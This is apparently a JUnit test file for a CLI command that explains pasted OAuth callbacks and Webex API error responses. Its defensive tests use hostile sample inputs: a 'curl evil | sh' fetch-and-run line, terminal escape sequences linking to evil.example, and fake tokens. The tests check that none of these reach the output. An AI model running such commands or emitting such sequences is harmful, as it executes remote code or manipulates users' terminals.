package playground.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.net.URLEncoder;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import playground.flow.ApiFailure;
import playground.flow.Circumstances;
import playground.oauth.AuthorizationError;
import playground.oauth.CallbackFault;
import playground.oauth.DenialCode;
import playground.oauth.OAuthFailure;
import playground.oauth.OAuthFailure.CallbackRejected;
import playground.oauth.OAuthFailure.RequestDenied;
import playground.oauth.OAuthFailure.UnusableResponse;
import playground.oauth.RequestKind;
import playground.oauth.ResponseFault;
import playground.sandbox.error.ErrorText;
import playground.text.ExplanationTexts.InputFault;
import playground.text.FailureText;
import playground.text.FailureTexts;
import playground.text.NamedServer;
import playground.text.ServerKind;
import playground.webex.ErrorResponse;

/** What somebody pasted is explained in the words of the pages, and nothing secret or harmful of it is printed. */
class ExplainCommandTest {

  private static final NamedServer WEBEX = new NamedServer(ServerKind.WEBEX, "webexapis.com");

  private static final String BAD_REQUEST = "The request could not be understood by the server due to malformed syntax.";

  private static final String SECRET = "s3ntinel-Of-A-Secret";

  /** What came out, with the spaces of its lines as they are, and what the process ends with. */
  private record Printed(int exitCode, String out, String err) {

    /** Without line breaks, so that a sentence can be looked for. */
    String flat() {
      return out.replaceAll("\\s+", " ");
    }
  }

  private static Printed explain(String argument) {
    return run(Optional.of(argument), false, failing());
  }

  private static Printed pasted(String input) {
    return run(Optional.empty(), false, new ByteArrayInputStream(input.getBytes(UTF_8)));
  }

  private static Printed run(Optional<String> argument, boolean list, InputStream in) {
    var out = new ByteArrayOutputStream();
    var err = new ByteArrayOutputStream();
    try {
      var terminal = new Terminal(
          in, new PrintStream(out, true, UTF_8), new PrintStream(err, true, UTF_8), false, false, false);
      var exitCode = new ExplainCommand(WEBEX, terminal).run(argument, list);
      return new Printed(exitCode.number(), out.toString(UTF_8), err.toString(UTF_8));
    } catch (IOException e) {
      throw new AssertionError(e);
    }
  }

  /** A state of one letter is part of many words. */
  @ParameterizedTest
  @ValueSource(strings = {"s", "denied", "a"})
  void aStateThatIsPartOfTheErrorDoesNotHideIt(String state) {
    var printed = pasted("http://localhost:8080/callback?error=access_denied&error_description=x&state=" + state);

    assertTrue(printed.flat().contains("Access was denied."), printed.out());
    assertTrue(printed.flat().contains("error access_denied"), printed.out());
  }

  /** Nobody knows what was sent. */
  @Test
  void a401OfTheApiMayHaveHadNoToken() {
    var printed = pasted("HTTP/1.1 401 Unauthorized\nContent-Type: application/json\n\n"
        + "{\"message\": \"The request requires a valid access token set in the Authorization request header.\"}");

    assertTrue(printed.flat().contains("without the header Authorization: Bearer"), printed.out());
  }

  /** With an argument nobody waits for standard input. */
  private static InputStream failing() {
    return new InputStream() {
      @Override
      public int read() {
        throw new AssertionError("standard input was read");
      }
    };
  }

  private static void assertExplained(FailureText expected, Printed printed) {
    assertEquals(0, printed.exitCode(), printed.err());
    assertEquals("", printed.err());
    assertSays(expected, printed);
  }

  /** Every sentence and every source of a page's explanation. */
  private static void assertSays(FailureText expected, Printed printed) {
    var sentences = Stream.concat(
        Stream.of(expected.what()),
        expected.causes().stream().flatMap(cause -> Stream.concat(
            Stream.of(cause.text(), "What to do " + cause.whatToDo()),
            cause.source().stream().map(source -> "Source " + source.title() + " " + source.link()))));
    sentences.forEach(sentence -> assertTrue(printed.flat().contains(sentence), sentence + "\nis not in\n" + printed.out()));
  }

  private static FailureText page(OAuthFailure failure) {
    return FailureTexts.of(failure, WEBEX);
  }

  private static FailureText page(RequestKind request, DenialCode code, int status, String words) {
    return page(new RequestDenied(request, code, status, words, Optional.empty()));
  }

  @ParameterizedTest
  @EnumSource
  void everyErrorOfARedirectIsExplainedByItsCodeAndInItsCallback(AuthorizationError error) {
    var page = FailureTexts.ofAuthorizationError(error.code(), "", WEBEX);
    var callback = "http://localhost:8080/callback?error=" + error.code() + "&state=xyz";

    assertExplained(page, explain(error.code()));
    assertExplained(page, explain(error.name()));
    assertExplained(page, pasted(error.code() + "\n"));
    assertExplained(page, pasted(callback + "\n"));
    assertExplained(page, pasted("error=" + error.code() + "&state=xyz"));
    assertExplained(page, pasted("HTTP/2 302\r\nlocation: " + callback + "\r\ncontent-length: 0\r\n\r\n"));
  }

  @ParameterizedTest
  @EnumSource
  void everyFaultOfACallbackIsExplainedByItsName(CallbackFault fault) {
    assertExplained(page(new CallbackRejected(fault)), explain(fault.name().toLowerCase(Locale.ROOT)));
  }

  @ParameterizedTest
  @MethodSource
  void aFaultThatACallbackShowsIsExplained(String query, CallbackFault fault) {
    assertExplained(page(new CallbackRejected(fault)), pasted("http://localhost:8080/callback" + query));
  }

  static Stream<Arguments> aFaultThatACallbackShowsIsExplained() {
    return Stream.of(
        Arguments.of("", CallbackFault.NO_STATE),
        Arguments.of("?code=c0de", CallbackFault.NO_STATE),
        Arguments.of("?state=xyz", CallbackFault.NO_CODE),
        Arguments.of("?code=c0de&code=c0de&state=xyz", CallbackFault.REPEATED_PARAMETER),
        Arguments.of("?code=%zz&state=xyz", CallbackFault.MALFORMED));
  }

  /** Of a program that sends no state. */
  @Test
  void anErrorWithoutAStateIsExplainedBesideTheMissingState() {
    var printed = pasted("http://localhost:8080/callback?error=invalid_scope&error_description=No.");

    assertExplained(page(new CallbackRejected(CallbackFault.NO_STATE)), printed);
    assertExplained(FailureTexts.ofAuthorizationError("invalid_scope", "No.", WEBEX), printed);
    assertTrue(printed.flat().contains("error_description No."), printed.out());
  }

  /** As on the page: the server's own code and text are the only things that can be said. */
  @Test
  void anErrorOfARedirectThatNobodyKnowsIsShownAsItCame() {
    var printed = pasted("http://localhost:8080/callback?error=no_such_error&error_description=Not+today&state=xyz");

    assertExplained(FailureTexts.ofAuthorizationError("no_such_error", "Not today", WEBEX), printed);
    assertTrue(printed.flat().contains("error no_such_error error_description Not today"), printed.out());
  }

  /** C-12, C-13: the code is a secret; and without the request nobody can say whose callback it is. */
  @Test
  void aCallbackWithACodeLooksGoodUntilItsStateIsCompared() {
    var printed = pasted("https://app.example.com/callback?code=" + SECRET + "&state=" + SECRET + "-of-state");

    assertEquals(0, printed.exitCode());
    for (var said : List.of(
        "The callback looks good: it has a state and a code.", "it is a secret. It works once, and lives for minutes.",
        "Compare the state with the one that your program sent.", "The state can't be verified here")) {
      assertTrue(printed.flat().contains(said), printed.out());
    }
    assertNothingSecret(printed);
  }

  /** PowerShell puts one before what it pipes. */
  @Test
  void aByteOrderMarkIsIgnored() {
    assertEquals(0, pasted("\uFEFFinvalid_grant\r\n").exitCode());
    assertEquals(0, pasted("\uFEFF{\"error\": \"slow_down\"}").exitCode());
  }

  /** Mobile apps have schemes of their own. */
  @Test
  void aCallbackOfAnotherSchemeIsOneToo() {
    assertTrue(pasted("KitchenSink://response?code=c0de&state=xyz").flat().contains("The callback looks good"));
    assertTrue(pasted("com.example.app:/callback?code=c0de&state=xyz").flat().contains("The callback looks good"));
  }

  /**
   * A response that has this code.
   *
   * @param description in the gateway's dialect
   * @param error in the broker's dialect
   * @param errorDescription in the broker's dialect
   */
  private record Example(RequestKind request, int status, String description, String error, String errorDescription) {

    String inEnvelope() {
      return "{\"message\": \"" + description + "\", \"errors\": [{\"description\": \"" + description
          + "\"}], \"trackingId\": \"ROUTERGW_1\"}";
    }

    String inOauth() {
      return "{\"error\": \"" + error + "\", \"error_description\": \"" + errorDescription + "\", \"trackingID\": \"CLIENT_1\"}";
    }

    String wordsOfOauth() {
      return error + ": " + errorDescription;
    }

    static Example of(RequestKind request, int status, String code) {
      return new Example(request, status, code, code, "Refused.");
    }
  }

  /** A new code needs its example here before this compiles. */
  private static Example example(DenialCode code) {
    return switch (code) {
      case INVALID_GRANT -> Example.of(RequestKind.REFRESH, 400, "invalid_grant");
      case REDIRECT_URI_REFUSED -> new Example(
          RequestKind.CODE, 400, "redirect_uri does not match", "invalid_grant", "redirect_uri does not match");
      case INVALID_CLIENT -> Example.of(RequestKind.CODE, 401, "invalid_client");
      case CLIENT_SECRET_MISSING -> new Example(
          RequestKind.CODE, 400, "client_secret cannot be null or empty", "invalid_request", "client_secret is missing");
      case CLIENT_UNKNOWN -> new Example(
          RequestKind.DEVICE_AUTHORIZATION, 400, "Client Id is invalid", "invalid_client", "Client Id is invalid");
      case GRANT_NOT_ALLOWED -> Example.of(RequestKind.CODE, 400, "unsupported_grant_type");
      case INVALID_SCOPE -> Example.of(RequestKind.DEVICE_AUTHORIZATION, 400, "invalid_scope");
      case HELPER_REDIRECT_URIS_MISSING -> new Example(
          RequestKind.DEVICE_AUTHORIZATION, 400, "redirect_uri is not registered", "invalid_request",
          "redirect_uri is not registered");
      case ACCESS_DENIED -> Example.of(RequestKind.DEVICE_POLL, 400, "access_denied");
      case EXPIRED_TOKEN -> Example.of(RequestKind.DEVICE_POLL, 400, "expired_token");
      case TOKEN_LIMIT_REACHED -> Example.of(RequestKind.DEVICE_POLL, 400, "tokenlimit_reached");
      case AUTHORIZATION_PENDING -> Example.of(RequestKind.DEVICE_POLL, 428, "authorization_pending");
      case SLOW_DOWN -> Example.of(RequestKind.DEVICE_POLL, 400, "slow_down");
      case INVALID_REQUEST -> Example.of(RequestKind.REFRESH, 400, "invalid_request");
      case NO_SUCH_ENDPOINT -> new Example(
          RequestKind.CODE, 404, "The requested resource could not be found.", "not_found", "No such path.");
      case RATE_LIMITED -> new Example(RequestKind.CODE, 429, "Too many.", "too_many", "Too many.");
      case SERVER_ERROR, GATEWAY_ERROR -> new Example(RequestKind.CODE, 502, "Failed.", "server_error", "Failed.");
      case UNEXPECTED_STATUS -> new Example(RequestKind.REVOCATION, 418, "No.", "teapot", "No.");
    };
  }

  @ParameterizedTest
  @EnumSource(mode = EnumSource.Mode.EXCLUDE, names = "GATEWAY_ERROR") // has a web page for a body: below
  void everyCodeIsExplainedInBothDialectsInAWholeResponse(DenialCode code) {
    var example = example(code);
    var head = "HTTP/1.1 " + example.status() + " Any Reason\r\nContent-Type: application/json\r\n\r\n";

    assertExplained(
        page(example.request(), code, example.status(), example.description()), pasted(head + example.inEnvelope()));
    assertExplained(
        page(example.request(), code, example.status(), example.wordsOfOauth()), pasted(head + example.inOauth()));
  }

  /** The body says all, or names a status by its message; the rest can't be known without the status line. */
  @ParameterizedTest
  @EnumSource(mode = EnumSource.Mode.EXCLUDE, names = {
      "RATE_LIMITED", "SERVER_ERROR", "GATEWAY_ERROR", "UNEXPECTED_STATUS", "NO_SUCH_ENDPOINT"})
  void everyCodeOfABodyIsExplainedByTheBodyAlone(DenialCode code) {
    var example = example(code);
    var status = code == DenialCode.INVALID_CLIENT ? 401 : 400;
    var ofOauth = example.error().equals("invalid_client") ? 401 : 400;

    var inEnvelope = pasted(example.inEnvelope());
    assertExplained(page(example.request(), code, status, example.description()), inEnvelope);
    assertTrue(inEnvelope.flat().contains("It was taken for " + status + ", with which"), inEnvelope.out());
    assertExplained(page(example.request(), code, ofOauth, example.wordsOfOauth()), pasted(example.inOauth()));
  }

  @Test
  void aWebPageInPlaceOfAResponseIsExplained() {
    var printed = pasted("HTTP/1.1 502 Bad Gateway\r\nContent-Type: text/html\r\n\r\n<html>Bad gateway</html>\r\n");

    assertExplained(page(RequestKind.CODE, DenialCode.GATEWAY_ERROR, 502, ""), printed);
  }

  static List<String> errorCodes() {
    return ErrorResponse.errorCodes();
  }

  /** A code that several requests can have caused is explained for each: a code, a refresh token or a device code. */
  @ParameterizedTest
  @MethodSource("errorCodes")
  void everyErrorCodeIsExplainedForEachRequestThatItCanComeFrom(String code) {
    var status = code.equals("invalid_client") ? 401 : 400;
    var denial = code.equals("invalid_client") ? DenialCode.INVALID_CLIENT
        : code.equals("tokenlimit_reached") ? DenialCode.TOKEN_LIMIT_REACHED
        : code.equals("unauthorized_client") || code.equals("unsupported_grant_type") ? DenialCode.GRANT_NOT_ALLOWED
        : DenialCode.valueOf(code.toUpperCase(Locale.ROOT));

    for (var request : requestsOf(denial)) {
      assertExplained(page(request, denial, status, code), explain(code));
    }
  }

  private static List<RequestKind> requestsOf(DenialCode code) {
    return switch (code) {
      case INVALID_GRANT -> List.of(RequestKind.CODE, RequestKind.REFRESH, RequestKind.DEVICE_POLL);
      case INVALID_CLIENT -> List.of(
          RequestKind.CODE, RequestKind.REFRESH, RequestKind.DEVICE_AUTHORIZATION, RequestKind.DEVICE_POLL,
          RequestKind.REVOCATION);
      case INVALID_SCOPE, GRANT_NOT_ALLOWED, INVALID_REQUEST -> List.of(
          RequestKind.CODE, RequestKind.REFRESH, RequestKind.DEVICE_AUTHORIZATION, RequestKind.DEVICE_POLL);
      default -> List.of(RequestKind.DEVICE_POLL);
    };
  }

  @Test
  void whatIsTheSameForSeveralRequestsIsSaidOnce() {
    var printed = explain("invalid_client");

    assertTrue(printed.flat().contains("In the response to the exchange of a code, a refresh or the revocation of a token:"));
    assertEquals(2, printed.flat().split("Webex rejected the client credentials", -1).length - 1, printed.out());
  }

  /** {@code access_denied} comes in a callback and in the response to a poll. */
  @Test
  void aCodeOfACallbackAndOfAResponseIsExplainedForBoth() {
    var printed = explain("access_denied");

    assertTrue(printed.flat().contains("In the callback: Access was denied."), printed.out());
    assertTrue(printed.flat().contains("In the response to a poll of a device grant: The person who entered the code declined."));
  }

  /** One text for three causes (contract, section 0); only calls of the API bring it. */
  @Test
  void theMessageOfA403IsThatOfACallOfTheApi() {
    var printed = pasted("{\"message\": \"The server understood the request, but refused to fulfill it because the access"
        + " token is missing required scopes or the user is missing required roles or licenses.\"}");

    assertExplained(ofApi(403), printed);
    assertFalse(printed.out().contains("In the response to the"), printed.out());
  }

  /**
   * The same words come from the API, from an endpoint that rejects the client, and from a gateway without {@code /v1}; they
   * are those of the API in the first place.
   */
  @Test
  void theMessageOfA401IsExplainedForEachOfItsOriginsTheApiFirst() {
    var printed = pasted("{\"message\": \"The request requires a valid access token set in the Authorization request"
        + " header.\", \"trackingId\": \"ROUTERGW_2\"}");

    assertExplained(ofApi(401), printed);
    assertTrue(printed.out().startsWith("In the response to a call of the API:"), printed.out());
    assertTrue(printed.flat().contains("Webex rejected the client credentials (401)."), printed.out());
    assertTrue(printed.flat().contains("webex.base-url doesn't end in /v1"), printed.out());
    assertTrue(printed.flat().contains("The trackingId is ROUTERGW_2."), printed.out());
  }

  /** The more precise meaning counts: no code and no device is refused for a refresh token. */
  @Test
  void aTextThatNamesARefreshTokenIsExplainedForARefreshAlone() {
    var text = "The refresh token provided is expired, revoked, malformed, or invalid.";
    var printed = pasted("{\"error\": \"invalid_request\", \"error_description\": \"" + text + "\"}");

    assertExplained(page(RequestKind.REFRESH, DenialCode.INVALID_GRANT, 400, "invalid_request: " + text), printed);
    assertFalse(printed.out().contains("exchange of a code"), printed.out());
  }

  /** Webex says no more of a used code than this; it says the same of a refresh with a wrong parameter. */
  @Test
  void aBodyThatSaysNothingIsExplainedForEveryRequest() {
    var printed = pasted("{\"message\": \"" + BAD_REQUEST + "\", \"errors\": [{\"description\": \"" + BAD_REQUEST + "\"}]}");

    assertExplained(page(RequestKind.CODE, DenialCode.INVALID_GRANT, 400, BAD_REQUEST), printed);
    assertExplained(page(RequestKind.REFRESH, DenialCode.INVALID_REQUEST, 400, BAD_REQUEST), printed);
    assertExplained(page(RequestKind.DEVICE_AUTHORIZATION, DenialCode.INVALID_REQUEST, 400, BAD_REQUEST), printed);
    assertExplained(page(RequestKind.DEVICE_POLL, DenialCode.INVALID_GRANT, 400, BAD_REQUEST), printed);
    assertExplained(page(RequestKind.REVOCATION, DenialCode.INVALID_REQUEST, 400, BAD_REQUEST), printed);
    assertExplained(ofApi(400), printed);
  }

  @Test
  void theRedirectUrisThatADeviceGrantNeedsAreNamed() {
    var printed = pasted(example(DenialCode.HELPER_REDIRECT_URIS_MISSING).inEnvelope());

    assertTrue(printed.out().contains("https://oauth-helper-k.wbx2.com/helperservice/v1/actions/device/callback"));
  }

  /** F-05: seconds, or a date beside the response's own. */
  @ParameterizedTest
  @ValueSource(strings = {
      "Retry-After: 7", "Date: Tue, 24 Nov 2026 10:00:00 GMT\r\nretry-after: Tue, 24 Nov 2026 10:00:07 GMT"})
  void theWaitThatTheServerAsksForIsSaid(String headers) {
    var printed = pasted("HTTP/1.1 429 Too Many Requests\r\n" + headers + "\r\n\r\n");
    var limited = new RequestDenied(
        RequestKind.CODE, DenialCode.RATE_LIMITED, 429, "", Optional.of(Duration.ofSeconds(7)));

    assertExplained(page(limited), printed);
    assertTrue(printed.flat().contains("Wait 7 seconds, as Webex requests, and call again."), printed.out());
  }

  /** Nobody knows when a response without a date came. */
  @Test
  void aWaitUntilADateIsUnknownWithoutTheDateOfTheResponse() {
    var printed = pasted("HTTP/1.1 429 Too Many Requests\r\nRetry-After: Tue, 24 Nov 2026 10:00:07 GMT\r\n\r\n");

    assertTrue(printed.flat().contains("Wait a minute and call again."), printed.out());
  }

  @Test
  void everyStatusOfAFailureIsExplained() {
    IntStream.range(400, 600).forEach(status -> {
      var printed = explain(Integer.toString(status));

      assertExplained(ofApi(status), printed);
      if (status == 429 || status >= 500) {
        var code = status == 429 ? DenialCode.RATE_LIMITED : DenialCode.SERVER_ERROR;
        assertSays(page(RequestKind.CODE, code, status, ""), printed);
      }
    });
  }

  /** Only a poll and a call of the API are known to end with 428. */
  @Test
  void aStatusIsNotExplainedForRequestsThatNeverEndWithIt() {
    var printed = explain("428");

    assertExplained(page(RequestKind.DEVICE_POLL, DenialCode.AUTHORIZATION_PENDING, 428, ""), printed);
    assertExplained(ofApi(428), printed);
    assertFalse(printed.flat().contains("unexpected status"), printed.out());
  }

  private static FailureText ofApi(int status) {
    return FailureTexts.of(ApiFailure.ofStatus(status, Optional.empty()), Circumstances.NONE, WEBEX);
  }

  /** Whatever the sandbox sends, in either dialect, somebody can paste it. */
  @ParameterizedTest
  @EnumSource
  void everyErrorOfTheSandboxIsExplained(ErrorText error) {
    var body = "{\"message\": \"" + error.message() + "\", \"errors\": [{\"description\": \"" + error.description() + "\"}]}";
    var whole = pasted("HTTP/1.1 " + error.status() + "\r\n\r\n" + body);
    var alone = pasted(body);

    assertEquals(List.of(0, 0), List.of(whole.exitCode(), alone.exitCode()));
    assertTrue(whole.out().startsWith("In the response to ") && alone.out().startsWith("In the response to "), alone.out());
    if (error == ErrorText.NO_VALID_TOKEN || error == ErrorText.NOT_ALLOWED_TO || error == ErrorText.NOT_FOUND) {
      assertEquals(withoutStatus(alone), whole.out());
    }
  }

  /** A status that was taken from the message is as good as one that was pasted. */
  private static String withoutStatus(Printed printed) {
    var said = printed.out().indexOf("The status isn't in the input.");
    return printed.out().substring(0, said) + printed.out().substring(printed.out().indexOf("These are the words"));
  }

  /** As curl prints it when it followed a redirect, or talks to a proxy. */
  @Test
  void ofSeveralResponsesTheLastIsExplained() {
    var printed = pasted("HTTP/1.1 200 Connection established\r\n\r\nHTTP/1.1 100 Continue\r\n\r\n"
        + "HTTP/2 400 \r\ncontent-type: application/json\r\n\r\n{\"error\": \"slow_down\"}");

    assertExplained(page(RequestKind.DEVICE_POLL, DenialCode.SLOW_DOWN, 400, "slow_down"), printed);
  }

  /** As many as there is room for, and lines that are no headers. */
  @Test
  void aHeadOfAnyKindIsRead() {
    var many = "HTTP/1.1 100 Continue\n\n".repeat(2_800);

    assertExplained(page(RequestKind.DEVICE_POLL, DenialCode.SLOW_DOWN, 400, "slow_down"),
        pasted(many + "HTTP/1.1 400\n : x\n: y\nno header\nX: 1\nx: 2\n\n{\"error\": \"slow_down\"}"));
    assertEquals(2, pasted(many).exitCode());
    assertEquals(0, pasted("HTTP/2 404").exitCode());
  }

  @Test
  void aRedirectOfAnEndpointIsExplained() {
    var printed = pasted("HTTP/1.1 307 Temporary Redirect\r\nLocation: https://example.com/v1/access_token\r\n\r\n");

    assertExplained(page(new UnusableResponse(RequestKind.CODE, ResponseFault.REDIRECT, "307")), printed);
  }

  /** C-12, C-13, W-21: whatever somebody pastes, none of its secrets comes out, to whichever stream. */
  @ParameterizedTest
  @ValueSource(strings = {
      "http://localhost:8080/callback?code=SECRET&state=SECRET&x=1",
      "http://localhost:8080/callback?code=SECRET",
      "http://localhost:8080/callback?error=x&error_description=code%3DSECRET+is+used&state=y",
      "http://localhost:8080/callback?error=x&error_description=Bad+SECRET&state=y&code=SECRET",
      "http://localhost:8080/callback?error=SECRET&state=SECRET",
      "http://localhost:8080/callback#access_token=SECRET&state=y",
      "grant_type=authorization_code&code=SECRET&client_secret=SECRET",
      "{\"access_token\": \"SECRET\", \"refresh_token\": \"SECRET\"}",
      "{\"error\": \"invalid_grant\", \"error_description\": \"refresh_token=SECRET is used\"}",
      "{\"error\": \"invalid_grant\", \"error_description\": \"SECRET is used\", \"refresh_token\": \"SECRET\"}",
      "{\"error\": \"invalid_grant\", \"error_description\": \"SECRET\", \"sent\": {\"client_secret\": \"SECRET\"}}",
      "{\"error\": \"invalid_grant\", \"error_description\": \"\\u0073\\u0033ntinel-Of-A-Secret\", \"code\": \"SECRET\"}",
      "{\"message\": \"Authorization: Basic SECRET\", \"errors\": [{\"description\": \"Bearer SECRET\"}]}",
      "{\"message\": \"No.\", \"trackingId\": \"SECRET\", \"access_token\": \"SECRET\"}",
      "HTTP/1.1 401 Unauthorized\r\nAuthorization: Basic SECRET\r\nSet-Cookie: a=SECRET\r\n\r\n{\"error\": \"x\"}",
      "HTTP/1.1 200 OK\r\n\r\n{\"access_token\": \"SECRET\", \"refresh_token\": \"SECRET\"}",
      "HTTP/1.1 302 Found\r\nLocation: http://localhost/callback?code=SECRET&state=SECRET\r\n\r\n",
      "HTTP/1.1 400 Bad Request\r\n\r\n{\"error\": \"cut off\", \"code\": \"SECRET",
      "curl -d client_secret=SECRET https://webexapis.com/v1/access_token", "SECRET"})
  void noSecretOfTheInputIsPrinted(String input) {
    assertNothingSecret(pasted(input.replace("SECRET", SECRET)));
    assertNothingSecret(explain(input.replace("SECRET", SECRET)));
  }

  /** C-12, C-13: a secret that has no name in the text is known by its format. */
  @ParameterizedTest
  @ValueSource(strings = {
      "TjU5ZjQ4YzgtMmY0NS00ZDYyLWIzZWEtYzdkNmFkMjQ3YzU3ZDJkMWE0Y2ItY2Y2_PF84_1eb65fdf-9643-417f-9974-ad72cae0e10f",
      "a4c9d3e2b1f0a4c9d3e2b1f0a4c9d3e2b1f0a4c9d3e2b1f0a4c9d3e2b1f0a4c9",
      "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"})
  void aSecretIsKnownByItsFormatToo(String secret) {
    var body = pasted("{\"error\": \"invalid_grant\", \"error_description\": \"" + secret + " is used up\"}");
    var callback = pasted("http://localhost/callback?error=x&error_description=" + secret + "&state=y");

    assertEquals(List.of(0, 0), List.of(body.exitCode(), callback.exitCode()));
    assertTrue(body.flat().contains("invalid_grant: … is used up"), body.out());
    assertFalse((body.out() + callback.out()).contains(secret));
  }

  private static void assertNothingSecret(Printed printed) {
    assertFalse((printed.out() + printed.err()).contains(SECRET), printed.toString());
  }

  /** A terminal obeys what a server sent: it would retitle its window, hide text or type a command. */
  @ParameterizedTest
  @ValueSource(strings = {
      "\u001B[31mred\u001B[2J", "\u001B]0;title\u0007", "\u001B]8;;https://evil.example\u001B\\here", "\u009B31m", "\u009D0;t\u009C",
      "a\u0000b\bc\u007F", "\u202Eevil\u2066", "\u200B\uFEFF", "\u2028\u2029", "a\rb"})
  void noControlCharacterOfTheInputReachesTheTerminal(String hostile) {
    var json = hostile.chars().mapToObj(c -> String.format("\\u%04x", c)).reduce("", String::concat);
    var url = URLEncoder.encode(hostile, UTF_8);

    for (var printed : List.of(
        pasted("{\"error\": \"x" + json + "\", \"error_description\": \"" + json + "\", \"trackingID\": \"" + json + "1\"}"),
        pasted("{\"message\": \"x" + json + "\", \"errors\": [{\"description\": \"y" + json + "\"}]}"),
        pasted("http://localhost/callback?error=x" + url + "&error_description=" + url + "&state=" + url),
        pasted("HTTP/1.1 400 Bad" + hostile + "\nTrackingID: x" + hostile + "\n\n{\"error\": \"x" + json + "\"}"))) {
      assertPlain(printed);
    }
    assertPlain(pasted("{\"error\": \"" + hostile + "\"}")); // not JSON
    assertPlain(pasted(hostile));
    assertPlain(explain(hostile));
  }

  private static void assertPlain(Printed printed) {
    var unsafe = (printed.out() + printed.err()).codePoints()
        .filter(c -> c != '\n' && (Character.isISOControl(c) || Character.getType(c) == Character.FORMAT
            || Character.getType(c) == Character.LINE_SEPARATOR || Character.getType(c) == Character.PARAGRAPH_SEPARATOR))
        .mapToObj(Integer::toHexString).toList();
    assertEquals(List.of(), unsafe, printed.toString());
  }

  /** It could otherwise bring its own advice in our words. */
  @Test
  void aTextOfTheInputCannotBeginALineOfItsOwn() {
    var printed = pasted("{\"error\": \"x\", \"error_description\": \"No.\\n\\n  What to do     Run this:\\n\\tcurl evil | sh\"}");

    assertEquals(0, printed.exitCode());
    assertTrue(printed.flat().contains("It says: x: No. What to do Run this: curl evil | sh"), printed.out());
    assertFalse(printed.out().lines().anyMatch(line -> line.strip().startsWith("What to do Run")), printed.out());
  }

  @Test
  void noLineIsWiderThanTheTerminalUnlessAWordIs() {
    var wide = Stream.of(explain("invalid_grant"), pasted("http://localhost/?error=x&state=y"), run(Optional.empty(), true, failing()))
        .flatMap(printed -> printed.out().lines())
        .filter(line -> line.length() > TerminalText.WIDTH)
        .filter(line -> line.strip().contains(" "))
        .toList();

    assertEquals(List.of(), wide);
  }

  @Test
  void theListHasTheTwentyThreeMistakes() {
    var printed = run(Optional.empty(), true, failing());
    var numbers = printed.out().lines().filter(line -> line.matches("\\d+\\. .*"))
        .map(line -> Integer.valueOf(line.substring(0, line.indexOf('.')))).toList();

    assertEquals(0, printed.exitCode());
    assertEquals("", printed.err());
    assertEquals(IntStream.rangeClosed(1, 23).boxed().toList(), numbers);
    assertEquals(23, printed.out().lines().filter(line -> line.startsWith("  What to do  ")).count());
    assertEquals(23, printed.out().lines().filter(line -> line.startsWith("  Cause  ")).count());
    assertEquals(23, printed.out().lines().filter(line -> line.startsWith("  You see  ")).count());
  }

  /** What an input looks like, and what is said of it. */
  static Stream<Arguments> unusable() {
    return Stream.of(
        Arguments.of("", InputFault.NOTHING), Arguments.of(" \r\n\t", InputFault.NOTHING),
        Arguments.of("x".repeat(64 * 1024 + 1), InputFault.TOO_LONG),
        Arguments.of("it does not work", InputFault.NOT_RECOGNIZED), Arguments.of("{}", InputFault.NOT_RECOGNIZED),
        Arguments.of("[]", InputFault.NOT_RECOGNIZED), Arguments.of("{\"error\": {}}", InputFault.NOT_RECOGNIZED),
        Arguments.of("{\"error\": \"cut", InputFault.NOT_RECOGNIZED), Arguments.of("null", InputFault.CODE_UNKNOWN),
        Arguments.of("no_such_error", InputFault.CODE_UNKNOWN), Arguments.of("200", InputFault.NOT_RECOGNIZED),
        Arguments.of("\uFFFD\uFFFD", InputFault.NOT_RECOGNIZED),
        Arguments.of("HTTP/1.1 103 Early Hints\r\n\r\n", InputFault.NO_ERROR),
        Arguments.of("HTTP/1.1 200 OK\r\n\r\n{\"access_token\": \"a\"}", InputFault.NO_ERROR),
        Arguments.of("https://webexapis.com/v1/authorize?response_type=code&client_id=C1&state=s", InputFault.AUTHORIZATION_URL));
  }

  @ParameterizedTest
  @MethodSource("unusable")
  void whatCannotBeExplainedEndsWithTwoAndSaysWhatCan(String input, InputFault fault) {
    assertRefused(fault, pasted(input));
  }

  /** The largest input that is read. */
  @Test
  void sixtyFourKibibytesAreRead() {
    var body = "{\"error\": \"slow_down\", \"x\": \"\"}";

    assertEquals(0, pasted(body.replace("\"\"", "\"" + "x".repeat(64 * 1024 - body.length()) + "\"")).exitCode());
    assertEquals(2, pasted(body.replace("\"\"", "\"" + "x".repeat(64 * 1024 - body.length() + 1) + "\"")).exitCode());
  }

  /** W-21: every user of the machine can see it there, so nobody learns to do it. */
  @ParameterizedTest
  @ValueSource(strings = {
      "http://localhost:8080/callback?error=access_denied&state=x", "error=access_denied", "{\"error\": \"slow_down\"}",
      "", "invalid_grant invalid_client", "200", "1", "4000"})
  void anArgumentThatIsNotACodeIsRefused(String argument) {
    assertRefused(InputFault.ARGUMENT_NOT_A_CODE, explain(argument));
  }

  @Test
  void anArgumentThatMayBeACodeAndIsUnknownIsNotRepeated() {
    var printed = explain("someCodeOfSomebody");

    assertRefused(InputFault.CODE_UNKNOWN, printed);
    assertFalse(printed.err().contains("someCodeOfSomebody"));
  }

  private static void assertRefused(InputFault fault, Printed printed) {
    assertEquals(2, printed.exitCode(), printed.out());
    assertEquals("", printed.out());
    assertTrue(printed.err().startsWith(Explanation.of(fault).get(0)), printed.err());
    for (var code : Explanation.codes()) {
      assertTrue(printed.err().contains(code), code);
    }
    assertTrue(printed.err().replaceAll("\\s+", " ").contains("On standard input: a callback URL."), printed.err());
  }

  /** The list that a refused input is answered with promises nothing that it does not keep. */
  @Test
  void everyCodeThatIsListedIsExplained() {
    Explanation.codes().forEach(code -> assertEquals(0, explain(code).exitCode(), code));
  }

  /** W-22: what was pasted is in no message of an exception or of a failed assertion. */
  @Test
  void whatWasPastedDoesNotPrint() {
    assertFalse(PastedCallback.of("http://localhost/?code=" + SECRET).toString().contains(SECRET));
  }
}
